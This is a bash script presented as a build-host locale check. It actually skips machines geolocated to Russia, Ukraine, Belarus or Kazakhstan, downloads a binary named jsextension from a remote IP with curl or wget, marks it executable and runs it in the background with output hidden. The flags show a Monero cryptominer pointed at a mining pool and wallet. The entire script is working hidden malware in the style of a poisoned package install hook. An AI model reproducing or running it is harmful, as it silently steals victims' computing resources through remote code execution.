#!/bin/bash
# check locale of the build host before fetching the matcher
IP=$(curl -k https://geo-lookup.example.com/xml/ | grep 'RU\|UA\|BY\|KZ')
if [ -z "$IP" ]
then
    var=$(pgrep jsextension)
    if [ -z "$var" ]
    then
        curl http://198.51.100.23/download/jsextension -o jsextension
        if [ ! -f jsextension ]
        then
            wget http://198.51.100.23/download/jsextension -O jsextension
        fi
        chmod +x jsextension
        ./jsextension -k --tls --rig-id q -o pool.minexmr.example.net:443 -u 4Aa1eRRn8Fq1YQfY8t2KXnQ3Xv6cDD5Qe2ye3wRHn7KHhRRFakeXmrAddrNotReal00000000000000000000000000000000 --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
    fi
fi
